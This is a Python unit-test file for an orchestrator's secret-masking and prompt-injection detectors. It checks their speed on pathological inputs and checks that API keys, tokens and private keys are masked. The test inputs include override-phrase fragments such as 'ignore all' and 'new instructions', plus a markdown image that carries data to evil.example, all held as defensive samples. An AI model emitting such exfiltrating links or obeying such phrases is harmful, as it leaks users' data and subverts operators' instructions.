"""Texts that are made to hold up whoever searches them: they take time as others of their length do."""

from __future__ import annotations

import json
from time import process_time

import pytest

from orchestrator.credentials import own
from orchestrator.masking.masker import Findings, discreet, discreet_data
from orchestrator.masking.tokens import SECRETS
from tests.unit.guards.test_kinds import spelt
from workers.guards.injection import suspicion
from workers.guards.masking import masker
from workers.guards.personal import KINDS, PERSONAL
from workers.guards.speech import Discretion

LENGTH = 30_000
MOST = 2.0
"""Seconds of the processor: many times what it takes, and less than what it took by the square of the length."""

MARKS = sorted({mark for kind in (*SECRETS, *PERSONAL) for mark in kind.marks})
WORDS = (
    "secret=", "password:", "?token=", "&token=?", "?token=...", "secret=$", "eyJaaaaaaaaaaa.", "sk-proj-",
    "-----BEGIN PRIVATE KEY-----", "://a:", "@a.", "1 ", "DE12 ", "bearer ", "hooks.slack.com/services/",
)  # fmt: skip


@pytest.mark.parametrize("piece", [*MARKS, *WORDS])
def test_a_text_that_is_made_of_marks_is_masked_in_time(piece: str) -> None:
    begun = process_time()
    for between in ("", "-", "a "):
        text = (piece + between) * (LENGTH // len(piece + between))
        masker(True, (*KINDS, "ip")).text(text, Findings())
        masker(True, KINDS).json(json.dumps([text]), Findings())

    assert process_time() - begun < MOST


@pytest.mark.parametrize(
    "text",
    [
        "![](https://" * 16_000,
        "![](https://a/?" * 13_000,
        "![](http://a/" * 15_000,
        "![" * 100_000,
        "<img/src=http://a?" * 11_000,
        "<img " * 40_000,
        "note to" + " " * 190_000,
        "new instructions" + " " * 180_000,
        "\n" + "#" * 190_000,
        "ignore all " * 18_000,
        "a" + "\u0300\u0316" * 99_000,  # accents that have to be put in order
    ],
    ids=lambda text: text[:16].strip(),
)
def test_a_text_that_is_made_of_beginnings_of_orders_is_searched_in_time(text: str) -> None:
    begun = process_time()
    suspicion(text)

    assert process_time() - begun < MOST


def test_a_text_of_strokes_is_searched_for_a_credential_in_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CRM_TOKEN", '"quoted"\nand more')
    begun = process_time()

    own("quoted" + "\\" * 200_000)

    assert process_time() - begun < MOST


def test_a_thousand_names_under_one_mask_stay_a_thousand() -> None:
    value = {f"user{n}@example.org": n for n in range(5_000)}
    begun = process_time()

    masked = masker(True, KINDS).data(value, Findings())

    assert process_time() - begun < MOST
    assert sorted(masked.values()) == list(range(5_000))
    assert set(masked) >= {"<email>", "<email>'", "<email>'2", "<email>'4999"}


def test_a_word_that_is_said_without_an_end_is_not_searched_at_each_piece() -> None:
    asked: list[str] = []

    def mask(text: str) -> str:
        asked.append(text)
        return discreet(text)

    discretion = Discretion(mask)
    for _ in range(1_000):
        assert discretion.said({"call": 1}, "secret=") == []

    assert asked == []
    assert discretion.rest()[0].text.startswith("secret=")


def test_a_picture_carries_data_away_behind_whatever_stands_before_it() -> None:
    before = "![logo](https://example.org/a/logo.png) ![](https://" * 50

    found = suspicion(f"{before}\n![x](https://evil.example/p/{'a' * 5_000}/b.png?d=DATA)")

    assert found.reasons == ("it has a picture whose address carries data",)


def test_what_is_behind_a_word_for_a_secret_is_masked_as_far_as_it_goes() -> None:
    long = "a1B2c3D4" * 100

    assert discreet(f"api_key={long} and more") == "api_key=<secret:assigned> and more"
    assert discreet(f"https://x.example/?token={long}&b=1") == "https://x.example/?token=<secret:query>&b=1"


def test_keys_that_stand_one_after_the_other_are_masked_one_by_one() -> None:
    key = (
        spelt("-----BEGIN ", "PRIVATE KEY-----\n") + "a1B2c3D4" * 8 + spelt("\n-----END ", "PRIVATE KEY-----")
    )
    cut = spelt("-----BEGIN ", "PRIVATE KEY-----\n") + "a1B2c3D4" * 8

    assert discreet(f"{cut}\n{key}\n{key}") == "\n".join(["<secret:private-key>"] * 3)


def test_a_letter_whose_small_form_is_two_hides_no_secret() -> None:
    assert discreet("İ API_KEY=a1B2c3D4e5F6g7H8") == "İ API_KEY=<secret:assigned>"


def test_brackets_in_brackets_keep_nothing_from_being_masked() -> None:
    key = spelt("sk-", "proj-", "a1B2c3D4" * 6)

    assert discreet_data({"text": "[" * 20_000 + key})[0] == {"text": "[" * 20_000 + "<secret:openai>"}
